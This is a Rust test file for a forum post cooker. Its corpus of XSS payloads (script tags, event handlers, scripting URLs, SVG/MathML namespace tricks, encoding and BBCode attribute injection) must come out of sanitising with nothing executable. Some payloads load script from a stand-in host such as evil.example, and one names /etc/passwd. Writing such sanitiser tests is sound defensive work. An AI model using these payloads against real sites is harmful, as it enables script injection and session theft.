//! An XSS corpus: hostile posts, grouped by family, cooked every way a post
//! is cooked (with a resolver that knows a few people, with one whose
//! answers are hostile, and with `cook_plain`), each alone and inside the
//! constructs that change how it is parsed (quotes, details, lists, block
//! quotes, tables, emphasis). The output is parsed as a browser parses it
//! (`support/html_check.rs`) and must hold nothing executable: no element
//! outside the allowlist, no `on*`, `style`, `srcdoc`, `formaction`,
//! `xlink:href`, no URL other than http(s), mailto, relative or a fragment,
//! no input but a checkbox.
//!
//! Two verdicts: `nothing_executable_survives_cooking` fails on anything
//! that could run script or change the page (handlers, scripting URLs,
//! script-bearing elements, foreign content, odd mentions or onebox
//! targets); `cooked_html_keeps_to_the_allowlist` fails on what is inert
//! but outside the allowlist (an element ammonia allows by default, a text
//! `<input>`, a `cite` URL with another scheme).
//!
//! A failure names the family, the payload, the context and the output.
//! `MINGA_XSS_DUMP=1 cargo test -p minga-core --test xss -- --nocapture`
//! prints what every payload cooks to.

#[path = "support/html_check.rs"]
mod html_check;

use minga_core::cook::{CookOptions, Cooked, NoOne, Resolver, cook, cook_traced, excerpt, mention_candidates, sanitize};
use minga_core::cook::onebox::Target;

/// Knows a few people and one group, as the seed forum does.
struct Known;

const PEOPLE: &[&str] = &["neto", "chris", "polly", "sol.verniers", "kayleigh"];

impl Resolver for Known {
    fn user(&self, lower: &str) -> Option<String> {
        PEOPLE.contains(&lower).then(|| lower.to_string())
    }
    fn group(&self, lower: &str) -> Option<String> {
        (lower == "facttic").then(|| "facttic".to_string())
    }
}

/// Answers with markup: the cooker must escape whatever a resolver says.
struct Hostile;

impl Resolver for Hostile {
    fn user(&self, lower: &str) -> Option<String> {
        PEOPLE.contains(&lower).then(|| format!("{lower}\"><img src=x onerror=alert(1)>"))
    }
    fn group(&self, lower: &str) -> Option<String> {
        (lower == "facttic").then(|| "facttic' onmouseover='alert(1)".to_string())
    }
}

/// The families of payloads. Each is written out; none is generated from
/// another, so a failure points at one line here.
fn families() -> Vec<(&'static str, Vec<String>)> {
    let fixed: Vec<(&str, &[&str])> = vec![
        // Script and style elements, and elements whose content is raw text.
        (
            "script and style",
            &[
                "<script>alert(1)</script>",
                "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
                "<scr<script>ipt>alert(1)</scr</script>ipt>",
                "<script/xss src=//evil.example/a.js></script>",
                "<<script>alert(1);//<</script>",
                "text before <script>alert(1)",
                "para\n<script\n>alert(1)</script\n>\nafter",
                "<style>*{background:url(javascript:alert(1))}</style>",
                "<style>@import 'https://evil.example/x.css';</style>",
                "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
                "<template><script>alert(1)</script><img src=x onerror=alert(1)></template>",
                "<textarea></textarea><script>alert(1)</script>",
                "<title></title><script>alert(1)</script>",
                "<xmp><script>alert(1)</script></xmp>",
                "<noembed><img src=x onerror=alert(1)></noembed>",
                "<plaintext><script>alert(1)</script>",
                "<iframe><script>alert(1)</script></iframe><img src=x onerror=alert(1)>",
            ],
        ),
        // Frames, plugins and the other ways to load a document.
        (
            "iframe object embed",
            &[
                "<iframe src=\"javascript:alert(1)\"></iframe>",
                "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
                "<IFRAME SRC=https://evil.example/ width=9999 height=9999></IFRAME>",
                "<object data=\"javascript:alert(1)\"></object>",
                "<object data=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\"></object>",
                "<object><param name=src value=javascript:alert(1)></object>",
                "<embed src=\"javascript:alert(1)\">",
                "<embed src=\"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+\" type=\"image/svg+xml\">",
                "<frameset><frame src=\"javascript:alert(1)\"></frameset>",
                "<applet code=\"x\" codebase=\"javascript:alert(1)\"></applet>",
                "<portal src=\"https://evil.example/\"></portal>",
                "<video><source onerror=\"alert(1)\"></video>",
                "<audio src=x onerror=alert(1)>",
                "<video poster=javascript:alert(1)></video>",
            ],
        ),
        // Elements that change the page itself, and forms.
        (
            "base meta link form",
            &[
                "<base href=\"javascript:alert(1)//\">",
                "<base href=\"https://evil.example/\">[relative](x)",
                "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
                "<meta charset=\"UTF-7\">+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
                "<link rel=\"stylesheet\" href=\"javascript:alert(1)\">",
                "<link rel=import href=\"data:text/html,&lt;script&gt;alert(1)&lt;/script&gt;\">",
                "<form action=\"javascript:alert(1)\"><input type=submit></form>",
                "<form><button formaction=\"javascript:alert(1)\">go</button></form>",
                "<form id=\"x\"></form><button form=\"x\" formaction=\"javascript:alert(1)\">go</button>",
                "<input type=\"image\" src=\"x\" onerror=\"alert(1)\">",
                "<input type=\"text\" autofocus onfocus=\"alert(1)\">",
                "<input value=\"no type is a text field\">",
                "<input type=checkbox formaction=javascript:alert(1) onclick=alert(1)>",
                "<input type=\"hidden\" name=\"csrf_token\" value=\"x\">",
                "<isindex action=javascript:alert(1) type=image>",
                "<select autofocus onfocus=alert(1)><option>x</option></select>",
                "<textarea autofocus onfocus=alert(1)>x</textarea>",
                "<keygen autofocus onfocus=alert(1)>",
                "<button onclick=alert(1)>press</button>",
            ],
        ),
        // Event handlers, on allowed and on unknown elements, spelled oddly.
        (
            "event handlers",
            &[
                "<img src=x onerror=alert(1)>",
                "<img src=x ONERROR=alert(1)>",
                "<img src=x onerror  =  alert(1)>",
                "<img/src=x/onerror=alert(1)>",
                "<img src=x onerror=alert&#40;1&#41;>",
                "<img src=\"x\" onerror=\"alert(1)\"//>",
                "<img src=x:alert(alt) onerror=eval(src) alt=1>",
                "<img src=x onload=alert(1) onmouseover=alert(1) onfocus=alert(1)>",
                "<body onload=alert(1)>",
                "<body onpageshow=alert(1)>",
                "<p onclick=\"alert(1)\">click</p>",
                "<a href=\"https://example.org\" onmouseover=alert(1)>hover</a>",
                "<details open ontoggle=alert(1)><summary onclick=alert(1)>s</summary>x</details>",
                "<div tabindex=0 autofocus onfocus=alert(1)>x</div>",
                "<span onpointerenter=alert(1) onauxclick=alert(1)>x</span>",
                "<marquee onstart=alert(1)>x</marquee>",
                "<h1 onmouseover=alert(1)>x</h1>",
                "<table onmouseover=alert(1)><tr><td onclick=alert(1)>x</td></tr></table>",
                "<time datetime=\"2018-11-29\" onmouseenter=alert(1)>x</time>",
                "<aside class=\"quote\" onmouseover=alert(1)>x</aside>",
                "<div onanimationstart=alert(1) ontransitionend=alert(1) onwheel=alert(1) onscroll=alert(1)>x</div>",
                "<strong oncopy=alert(1) onpaste=alert(1) oninput=alert(1) onchange=alert(1) onkeydown=alert(1)>x</strong>",
                "<em onfocusin=alert(1) onblur=alert(1) onbeforeinput=alert(1)>x</em>",
                "**bold** <b onmouseover=alert(1)>b</b> _it_",
                "<img src=\"https://example.org/a.png\" style=\"position:fixed;top:0;left:0;width:100%;height:100%\">",
            ],
        ),
        // Scripting URLs in every place Markdown and HTML put a URL.
        (
            "javascript vbscript data in links",
            &[
                "[a](javascript:alert(1))",
                "[a](JaVaScRiPt:alert(1))",
                "[a](javascript&#58;alert(1))",
                "[a](&#106;avascript:alert(1))",
                "[a](&#x6A;&#x61;vascript:alert(1))",
                "[a](javascript&colon;alert(1))",
                "[a](<javascript:alert(1)>)",
                "[a]( javascript:alert(1) )",
                "[a](java%0ascript:alert(1))",
                "[a](java&#10;script:alert(1))",
                "[a](java&#9;script:alert(1))",
                "[a](&#1;javascript:alert(1))",
                "[a](&#x20;javascript:alert(1))",
                "[a](<java\tscript:alert(1)>)",
                "[a](vbscript:msgbox(1))",
                "[a](VBScript:msgbox(1))",
                "[a](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
                "[a](DATA:text/html,%3Cscript%3Ealert(1)%3C/script%3E)",
                "[a](javascript:alert(1) \"title\")",
                "[a](\\javascript:alert(1))",
                "![img](javascript:alert(1))",
                "![img](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
                "![img](vbscript:msgbox(1))",
                "[![img](https://example.org/a.png)](javascript:alert(1))",
                "<javascript:alert(1)>",
                "<JAVASCRIPT:alert(1)>",
                "<vbscript:msgbox(1)>",
                "<data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==>",
                "<javascript:alert(1)//https://example.org>",
                "[a][x]\n\n[x]: javascript:alert(1)",
                "[x]\n\n[x]: <javascript:alert(1)> \"title\"",
                "![i][y]\n\n[y]: data:text/html,x",
                "[a][x]\n\n[x]: jav&#x61;script:alert(1)",
                "[a][X]\n\n[x]: JAVASCRIPT:alert(1)",
                "<a href=\"javascript:alert(1)\">x</a>",
                "<a href=\"jav&#x09;ascript:alert(1)\">x</a>",
                "<a href=\"  javascript:alert(1)\">x</a>",
                "<a href=\"&#x6A;avascript&#x3A;alert(1)\">x</a>",
                "<a href=\"javascript&colon;alert(1)\">x</a>",
                "<a href=\"javas&Tab;cript:alert(1)\">x</a>",
                "<a href=\"java&NewLine;script:alert(1)\">x</a>",
                "<a href=javascript:alert(1)>x</a>",
                "<a href='vbscript:msgbox(1)'>x</a>",
                "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
                "<a href=\"%6A%61vascript:alert(1)\">relative, not a scheme</a>",
                "<a href=\"//evil.example/x\">protocol-relative</a>",
                "<img src=\"javascript:alert(1)\">",
                "<img src=\" &#14;  javascript:alert(1)\">",
                "<img srcset=\"javascript:alert(1) 1x, https://example.org/a.png 2x\">",
                "<a href=\"#\" xlink:href=\"javascript:alert(1)\">x</a>",
                "<a href=\"javascript:alert(1)\"><img src=x onerror=alert(1)></a>",
                "see javascript:alert(1) in a sentence and vbscript:x too",
            ],
        ),
        // Titles and alt text of images and links, where Markdown writes
        // author text into attributes.
        (
            "image and link titles",
            &[
                "![a](https://example.org/a.png \"title\\\" onerror=\\\"alert(1)\")",
                "![a](https://example.org/a.png 'x\" onload=\"alert(1)')",
                "[a](https://example.org \"\\\"><script>alert(1)</script>\")",
                "![a\" onerror=\"alert(1)](https://example.org/a.png)",
                "![<img src=x onerror=alert(1)>](https://example.org/a.png)",
                "![a](https://example.org/a.png\"onerror=\"alert(1))",
                "![a](https://example.org/a.png?\"onerror=\"alert(1))",
                "![a](<https://example.org/a b.png> (\"<svg onload=alert(1)>\"))",
                "[a](https://example.org 'title' onmouseover='alert(1)')",
                "![x][r]\n\n[r]: https://example.org/a.png \"\\\" onerror=\\\"alert(1)\"",
            ],
        ),
        // SVG: its own parsing rules, its own URL attributes, animation.
        (
            "svg",
            &[
                "<svg onload=alert(1)>",
                "<svg/onload=alert(1)//",
                "<svg><script>alert(1)</script></svg>",
                "<svg><script href=\"data:,alert(1)\"/></svg>",
                "<svg><a xlink:href=\"javascript:alert(1)\"><text x=20 y=20>x</text></a></svg>",
                "<svg><a href=\"javascript:alert(1)\"><rect width=100 height=100 /></a></svg>",
                "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
                "<svg><a><set attributeName=href to=\"javascript:alert(1)\"/><text y=20>x</text></a></svg>",
                "<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>",
                "<svg><style><img src=x onerror=alert(1)></style></svg>",
                "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
                "<svg><use href=\"data:image/svg+xml,&lt;svg id='x' xmlns='http://www.w3.org/2000/svg'&gt;&lt;image href='1' onerror='alert(1)' /&gt;&lt;/svg&gt;#x\"/></svg>",
                "<svg><image href=x onerror=alert(1)>",
                "<svg><title><img src=x onerror=alert(1)></title></svg>",
                "<svg><desc><p><img src=x onerror=alert(1)></p></desc></svg>",
                "<svg><![CDATA[><img src=x onerror=alert(1)>]]></svg>",
            ],
        ),
        // MathML, and the namespace confusions that bypassed DOMPurify.
        (
            "mathml",
            &[
                "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
                "<math><maction actiontype=\"statusline\" xlink:href=\"javascript:alert(1)\">x</maction></math>",
                "<math href=\"javascript:alert(1)\">click</math>",
                "<math><mi xlink:href=\"data:x,<script>alert(1)</script>\">x</mi></math>",
                "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
                "<math><annotation-xml encoding=\"text/html\"><img src=x onerror=alert(1)></annotation-xml></math>",
                "<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title=\"</style><img src onerror=alert(1)>\"></style></mtext></svg></mglyph></h1></mtext></math>",
                "<math><mi><mglyph><svg><mtext><textarea><path id=\"</textarea><img onerror=alert(1) src=1>\">",
            ],
        ),
        // Broken and mis-nested HTML: what the parser repairs must come out
        // the same in the browser.
        (
            "broken and mis-nested html",
            &[
                "<img src=x onerror=alert(1)",
                "<img src=\"x\" onerror=\"alert(1)",
                "<a href=\"https://example.org\">x<a href=\"javascript:alert(1)\">y</a>",
                "<p><div onclick=alert(1)>x</p></div>",
                "<table><tr><td><script>alert(1)</script>",
                "<table><img src=x onerror=alert(1)></table>",
                "<table><tr><td>x</td></tr><svg onload=alert(1)></table>",
                "<b><i>x</b><img src=x onerror=alert(1)></i>",
                "<<img src=x onerror=alert(1)>>",
                "<img src=x onerror=alert(1)//",
                "</title><img src=x onerror=alert(1)>",
                "</textarea><script>alert(1)</script>",
                "</style><script>alert(1)</script>",
                "<div <img src=x onerror=alert(1)>>",
                "<a href=\"https://example.org\" title=\"x></a><img src=x onerror=alert(1)>\">x</a>",
                "<select><option><img src=x onerror=alert(1)></option></select>",
                "<p title=\"</p><script>alert(1)</script>\">x</p>",
                "<a href=\"https://example.org\"><table><a href=\"javascript:alert(1)\">x</a></table></a>",
                "<li><ul><li onclick=alert(1)>x</ul>",
                "<img src=x onerror=alert(1)<img src=y>",
                "<img src=`x` onerror=`alert(1)`>",
                "<img src=x onerror=\"alert(1)\"\u{0}>",
            ],
        ),
        // Comments, CDATA, processing instructions and doctypes.
        (
            "comments and cdata",
            &[
                "<!--<img src=x onerror=alert(1)>-->",
                "<!-- --!><img src=x onerror=alert(1)> -->",
                "<!--> <img src=x onerror=alert(1)> -->",
                "<!---> <img src=x onerror=alert(1)> -->",
                "<![CDATA[<img src=x onerror=alert(1)>]]>",
                "<!--[if IE]><script>alert(1)</script><![endif]-->",
                "<!--[if gte IE 4]><SCRIPT>alert(1);</SCRIPT><![endif]-->",
                "<? <img src=x onerror=alert(1)> ?>",
                "<?xml version=\"1.0\"?><img src=x onerror=alert(1)>",
                "<!DOCTYPE html><img src=x onerror=alert(1)>",
                "<a title=\"<!--\"><img src=x onerror=alert(1)>-->",
                "<!-- unclosed comment <img src=x onerror=alert(1)>",
                "text <!-- x --> [a](javascript:alert(1)) <!-- y -->",
            ],
        ),
        // Block BBCode: author text that the cooker writes into attributes.
        (
            "bbcode quote details spoiler",
            &[
                "[quote=\"x\\\" onmouseover=alert(1)\"]\nhi\n[/quote]",
                "[quote=\"x\" onmouseover=alert(1)\"]\nhi\n[/quote]",
                "[quote=\"x\\\" onmouseover=\\\"alert(1)\"]\nhi\n[/quote]",
                "[quote=\"\"><script>alert(1)</script>, post:1, topic:2\"]\nhi\n[/quote]",
                "[quote=\"neto\" onmouseover=\"alert(1), post:1, topic:2\"]\nhi\n[/quote]",
                "[quote=<img src=x onerror=alert(1)>]\nhi\n[/quote]",
                "[quote=\"<img src=x onerror=alert(1)>, post:1, topic:2\"]\nhi\n[/quote]",
                "[quote=\"neto, post:1\" onmouseover=alert(1), topic:2\"]\nx\n[/quote]",
                "[quote=\"neto, post:1, topic:2 onmouseover=alert(1)\"]\nx\n[/quote]",
                "[quote=\"neto, post:1 onmouseover=alert(1), topic:2\"]\nx\n[/quote]",
                "[quote='neto' onmouseover='alert(1)']\nx\n[/quote]",
                "[quote=\"ne'to\"]\nx\n[/quote]",
                "[quote=\"ne<to>\"]\nx\n[/quote]",
                "[quote=\"neto, post:99999999999999999999, topic:-1\"]\nx\n[/quote]",
                "[quote=neto]<img src=x onerror=alert(1)>[/quote]",
                "[quote]\n[details=\"a\"]\n<script>alert(1)</script>\n[/details]\n[/quote]",
                "[details=\"<img src=x onerror=alert(1)>\"]\nx\n[/details]",
                "[details=\"\\\" ontoggle=\\\"alert(1)\"]\nx\n[/details]",
                "[details=\"x\" open ontoggle=\"alert(1)\"]\nx\n[/details]",
                "[details=<script>alert(1)</script>]\nx\n[/details]",
                "[details=\"</summary><img src=x onerror=alert(1)>\"]\nx\n[/details]",
                "[details=\"x\"]\n<img src=x onerror=alert(1)>\n[/details]",
                "[details=\"x\"]\n[a](javascript:alert(1))\n[/details]",
                "[spoiler]<img src=x onerror=alert(1)>[/spoiler]",
                "[spoiler]\n<svg onload=alert(1)>\n[/spoiler]",
                "inline [spoiler]<svg onload=alert(1)>[/spoiler] text",
                "inline [spoiler]@neto [a](javascript:alert(1)) :smile:[/spoiler]",
                "```\n[quote=\"x\\\" onmouseover=alert(1)\"]\n```\n[/quote]",
                "[quote]\n```\n[/quote]\n<script>alert(1)</script>\n```\n[/quote]",
                "[QUOTE=\"NETO\"]\n<img src=x onerror=alert(1)>\n[/QUOTE]",
            ],
        ),
        // Local dates: attribute values the cooker copies into its markup.
        (
            "bbcode dates",
            &[
                "[date=2018-11-29 time=19:00:00 timezone=\"Europe/London\" onmouseover=\"alert(1)\"]",
                "[date=2018-11-29 timezone=\"Europe/London\\\" onmouseover=\\\"alert(1)\"]",
                "[date=2018-11-29\" onmouseover=\"alert(1)]",
                "[date=2018-11-29 time=\"19:00\" format=\"<img src=x onerror=alert(1)>\"]",
                "[date-range from=2018-11-29 to=2018-11-30 timezone=\"<img src=x onerror=alert(1)>\"]",
                "[date-range from=\"2018-11-29\" to=\"2018-11-30\" onmouseover=alert(1)]",
                "[date=<script>alert(1)</script>]",
                "[date=2018-11-29 timezone=Europe/London\"onmouseover=alert(1)]",
                "[date=2018-11-29 time=19:00 timezone=\"Europe/London\"]<img src=x onerror=alert(1)>",
                "[date=2018-11-29 time=19:00:00 timezone=\"../../etc/passwd\"]",
                "[date=2018-11-29 timezone=\"Europe/London\" timezone=\"<b>\"]",
            ],
        ),
        // Mentions and emoji next to markup.
        (
            "mentions and emoji",
            &[
                "@<script>alert(1)</script>",
                "@\"onmouseover=alert(1)",
                "@\"onmouseover",
                "@neto\"onmouseover=\"alert(1)",
                "@neto<img src=x onerror=alert(1)>",
                "@ne<b onclick=alert(1)>to</b>",
                "@facttic<script>alert(1)</script>",
                "@neto@chris@polly'onmouseover='alert(1)'",
                ":<img src=x onerror=alert(1)>:",
                ":smile:<img src=x onerror=alert(1)>:wink:",
                ":smile\" onmouseover=\"alert(1):",
                ":+1:t9:\" onerror=alert(1)",
                ":+1:t3:<svg onload=alert(1)>",
                "[@neto](javascript:alert(1))",
                "<a href=\"javascript:alert(1)\">@neto :smile:</a>",
                "**@neto**<svg/onload=alert(1)>",
                "@neto:smile:@chris",
                "<span title=\"@neto\">x</span>",
                "<img alt=\":smile: @neto\" src=x onerror=alert(1)>",
                ":smile: :wink: <img src=x onerror=alert(1)>",
            ],
        ),
        // Lines holding only a URL become onebox markers.
        (
            "onebox lines",
            &[
                "javascript:alert(1)",
                "https://x/\"onmouseover=\"alert(1)",
                "https://x/'onmouseover='alert(1)'",
                "https://example.org/<script>alert(1)</script>",
                "https://forum.example.coop/t/x/1\"onmouseover=\"alert(1)",
                "http://example.org/javascript:alert(1)",
                "https://example.org/a?b=c&d=\"><img src=x onerror=alert(1)>",
                "  https://example.org/\"><svg onload=alert(1)>",
                "<https://example.org/\"onmouseover=\"alert(1)>",
                "https://example.org/)\"onmouseover=alert(1)//",
                "https://",
                "https://example.org/\u{0}\"onmouseover=alert(1)",
                "https://example.org/a\u{202E}gnp.exe",
                "see https://example.org/\"onmouseover=alert(1) now",
                "https://example.org/`onmouseover=alert(1)`",
                "HTTPS://EXAMPLE.ORG/\"ONMOUSEOVER=\"ALERT(1)",
                "https://example.org/x\nhttps://example.org/y\"><img src=x onerror=alert(1)>",
            ],
        ),
        // Entities and percent-encoding that a careless filter decodes in
        // the wrong order.
        (
            "entities and encodings",
            &[
                "&lt;script&gt;alert(1)&lt;/script&gt;",
                "&#60;img src=x onerror=alert(1)&#62;",
                "&#x3C;svg onload=alert(1)&#x3E;",
                "&amp;lt;script&amp;gt;alert(1)",
                "<a href=\"&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000049&#0000041\">x</a>",
                "<a href=\"&#x6a&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3a;alert(1)\">x</a>",
                "<img src=x onerror=\"&#97;&#108;&#101;&#114;&#116;(1)\">",
                "%3Cscript%3Ealert(1)%3C/script%3E",
                "<a href=\"%6a%61%76%61%73%63%72%69%70%74%3a%61%6c%65%72%74%28%31%29\">x</a>",
                "\\<script\\>alert(1)\\</script\\>",
                "`<script>alert(1)</script>`",
                "```\n<script>alert(1)</script>\n```",
                "```html\n<img src=x onerror=alert(1)>\n",
                "    <script>alert(1)</script>",
                "<code><script>alert(1)</script></code>",
                "<pre><img src=x onerror=alert(1)></pre>",
                "```js\" onclick=\"alert(1)\nx\n```",
                "<code class=\"lang-x&quot; onclick=&quot;alert(1)\">x</code>",
                "&#x26;#x3C;script&#x26;#x3E;alert(1)",
                "[a](https://example.org/&quot;onmouseover=&quot;alert(1))",
            ],
        ),
        // Nulls, controls and characters that fold or hide.
        (
            "nulls and unicode",
            &[
                "<scr\u{0}ipt>alert(1)</scr\u{0}ipt>",
                "<img src=x on\u{0}error=alert(1)>",
                "<img\u{0}src=x onerror=alert(1)>",
                "<a href=\"java\u{0}script:alert(1)\">x</a>",
                "[a](java\u{0}script:alert(1))",
                "<a href=\"\u{1}javascript:alert(1)\">x</a>",
                "<a href=\"javascript\u{B}:alert(1)\">x</a>",
                "<a\u{B}href=javascript:alert(1)>x</a>",
                "<script\u{C}>alert(1)</script>",
                "<img src=x\u{C}onerror=alert(1)>",
                "<ſcript>alert(1)</ſcript>",
                "<İmg src=x onerror=alert(1)>",
                "<img src=x onerror\u{FEFF}=alert(1)>",
                "\u{FEFF}<script>alert(1)</script>",
                "<img src=x\u{2028}onerror=alert(1)>",
                "<a href=\"\u{FF4A}avascript:alert(1)\">fullwidth j</a>",
                "[a](\u{200B}javascript:alert(1))",
                "\u{FF1C}script\u{FF1E}alert(1)\u{FF1C}/script\u{FF1E}",
                "<\u{FFFD}script>alert(1)</script>",
                "\u{202E}<img src=x onerror=alert(1)>",
                "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
                "<a href=\"javascript\u{FE55}alert(1)\">small colon</a>",
            ],
        ),
        // Markdown constructs that put author text into attributes or
        // around raw HTML: tables, task lists, lists, headings.
        (
            "markdown constructs",
            &[
                "| a | b |\n|---|---|\n| <img src=x onerror=alert(1)> | [x](javascript:alert(1)) |",
                "- [x] <input type=checkbox onclick=alert(1)>",
                "- [ ] task\n<input type=text value=x autofocus onfocus=alert(1)>",
                "<ol start=\"1 onclick=alert(1)\"><li>x</li></ol>",
                "<ol start=javascript:alert(1) type=\"a\"><li>x</li></ol>",
                "# <h1 onclick=alert(1)>x</h1>",
                "> <blockquote cite=\"javascript:alert(1)\">x</blockquote>",
                "<q cite=\"javascript:alert(1)\">x</q>",
                "<del cite=\"vbscript:x\">x</del>",
                "<time datetime=\"x\" onclick=alert(1)>x</time>",
                "<span class=\"spoiler\" tabindex=\"0\" onfocus=alert(1) autofocus>x</span>",
                "<div class=\"spoiler\" style=\"background:url(javascript:alert(1))\">x</div>",
                "<aside class=\"onebox\" data-onebox-url=\"javascript:alert(1)\"><a href=\"javascript:alert(1)\">x</a></aside>",
                "<a class=\"mention\" href=\"javascript:alert(1)\">@admin</a>",
                "Setext heading <img src=x onerror=alert(1)>\n===",
                "1. one\n2. <script>alert(1)</script>\n   - <svg onload=alert(1)>",
                "<details><summary>x</summary><img src=x onerror=alert(1)></details>",
                "~~<del onclick=alert(1)>x</del>~~",
                "<a href=\"mailto:x@example.org?body=<script>alert(1)</script>\">mail</a>",
                "<a href=\"https://example.org\" target=\"_blank\" rel=\"opener\">x</a>",
                "<map name=m><area href=\"javascript:alert(1)\" shape=rect coords=0,0,99,99></map><img usemap=#m src=x>",
            ],
        ),
    ];

    let mut all: Vec<(&'static str, Vec<String>)> =
        fixed.into_iter().map(|(name, list)| (name, list.iter().map(|s| s.to_string()).collect())).collect();

    // Size and depth: deep nesting must neither overflow a stack nor hide
    // markup from the sanitiser.
    all.push((
        "depth and size",
        vec![
            ">".repeat(3000) + " <img src=x onerror=alert(1)>",
            "<div>".repeat(3000) + "<img src=x onerror=alert(1)>",
            "<a href=\"javascript:alert(1)\">".repeat(500) + "x",
            "[quote]\n".repeat(40) + "<script>alert(1)</script>\n" + &"[/quote]\n".repeat(40),
            "- ".repeat(1000) + "<svg onload=alert(1)>",
            "<table>".repeat(300) + "<img src=x onerror=alert(1)>",
            "<b><i><u><s>".repeat(300) + "<img src=x onerror=alert(1)>",
            "[details=\"<b>\"]\n".repeat(20) + "x\n" + &"[/details]\n".repeat(20),
            "<math><mtext>".repeat(200) + "<style><img src=x onerror=alert(1)></style>",
            "[spoiler]".repeat(200) + "<img src=x onerror=alert(1)>" + &"[/spoiler]".repeat(200),
        ],
    ));
    all
}

/// The constructs each payload is also put inside.
const CONTEXTS: &[(&str, &str)] = &[
    ("alone", "{}"),
    ("after text", "Hello @neto :smile:\n\n{}\n\nbye"),
    ("quote", "[quote=\"neto, post:1, topic:2\"]\n{}\n[/quote]"),
    ("details", "[details=\"Agenda\"]\n{}\n[/details]"),
    ("list item", "- {}"),
    ("block quote", "> {}"),
    ("table cell", "| h |\n|---|\n| {} |"),
    ("emphasis", "**{}**"),
    ("inline html", "<div>{}</div>"),
];

/// At most `n` characters of `s`, for messages about huge payloads.
fn clip(s: &str, n: usize) -> String {
    if s.chars().count() <= n { s.to_string() } else { format!("{}… ({} bytes)", s.chars().take(n).collect::<String>(), s.len()) }
}

/// What went wrong with one cook.
struct Failure {
    /// Could script run (or a notification or a fetch be hijacked)?
    executable: bool,
    text: String,
}

/// Checks one cook. A post without HTML of its author's skips the
/// sanitiser (`sanitised` is false): its output must then be exactly what
/// the sanitiser would make of it.
fn check_cooked(label: &str, (cooked, sanitised): &(Cooked, bool), options: &CookOptions<'_>, failures: &mut Vec<Failure>) {
    if !sanitised {
        let again = sanitize(&cooked.html, options);
        if again != cooked.html {
            failures.push(Failure {
                executable: true,
                text: format!("{label}\n  written without the sanitiser: {:?}\n  the sanitiser makes it: {:?}", clip(&cooked.html, 400), clip(&again, 400)),
            });
        }
    }
    let v = html_check::violations(&cooked.html);
    if !v.is_empty() {
        failures.push(Failure {
            executable: html_check::any_executable(&v),
            text: format!("{label}\n  output: {:?}\n  problems:\n    {}", clip(&cooked.html, 400), v.join("\n    ")),
        });
    }
    let mut bad = |text: String| failures.push(Failure { executable: true, text: format!("{label}\n  {text}") });
    for m in &cooked.mentions {
        if !PEOPLE.contains(&m.as_str()) {
            bad(format!("mention of someone unknown: {m:?}"));
        }
    }
    for g in &cooked.group_mentions {
        if g != "facttic" {
            bad(format!("mention of an unknown group: {g:?}"));
        }
    }
    // The web layer fetches these: only plain http(s) URLs, one token.
    for target in &cooked.oneboxes {
        if let Target::External(url) = target {
            let plain = (url.starts_with("https://") || url.starts_with("http://"))
                && !url.chars().any(|c| c.is_whitespace() || c.is_control() || matches!(c, '"' | '<' | '>' | '`'));
            if !plain {
                bad(format!("onebox target {url:?}"));
            }
        }
    }
    // Excerpts are made from cooked HTML for lists and cards.
    let _ = excerpt(&cooked.html, 60);
}

/// Cooks the whole corpus once (the two tests below share the result):
/// every payload in every context, with each resolver and `cook_plain`.
fn corpus_results() -> &'static (usize, usize, Vec<Failure>) {
    static RESULTS: std::sync::OnceLock<(usize, usize, Vec<Failure>)> = std::sync::OnceLock::new();
    RESULTS.get_or_init(|| {
        let options = CookOptions { base_url: "https://forum.example.coop" };
        let mut failures = Vec::new();
        let mut cooked_count = 0;
        let mut unsanitised = 0;
        // `MINGA_XSS_DUMP=1 cargo test --test xss -- --nocapture` shows
        // what each payload cooks to.
        let dump = std::env::var_os("MINGA_XSS_DUMP").is_some();
        for (family, payloads) in families() {
            for (i, payload) in payloads.iter().enumerate() {
                for (context, template) in CONTEXTS {
                    // The big payloads once, alone; the others in every context.
                    if family == "depth and size" && *context != "alone" {
                        continue;
                    }
                    let raw = template.replace("{}", payload);
                    let label = format!("[{family} #{i}] in {context}: {:?}", clip(payload, 200));
                    let _ = mention_candidates(&raw);
                    if dump && *context == "alone" {
                        println!("{label}\n  => {:?}\n", clip(&cook(&raw, &options, &Known).html, 400));
                    }
                    let plain = CookOptions::default();
                    for (how, cooked, options) in [
                        ("resolver", cook_traced(&raw, &options, &Known), &options),
                        ("hostile resolver", cook_traced(&raw, &options, &Hostile), &options),
                        ("cook_plain", cook_traced(&raw, &plain, &NoOne), &plain),
                    ] {
                        unsanitised += usize::from(!cooked.1);
                        check_cooked(&format!("{label} ({how})"), &cooked, options, &mut failures);
                        cooked_count += 1;
                    }
                }
            }
        }
        (cooked_count, unsanitised, failures)
    })
}

/// No script can run: no handler, no scripting URL, no script-bearing or
/// page-changing element, no foreign content; mentions and onebox
/// targets are only what they should be.
#[test]
fn nothing_executable_survives_cooking() {
    let (cooked_count, unsanitised, failures) = corpus_results();
    assert!(*cooked_count > 1000);
    // Enough posts skip the sanitiser for its verdict on them to count.
    assert!(*unsanitised > 1000, "only {unsanitised} of {cooked_count} cooks skipped the sanitiser");
    println!("{unsanitised} of {cooked_count} cooks skipped the sanitiser and matched what it would write");
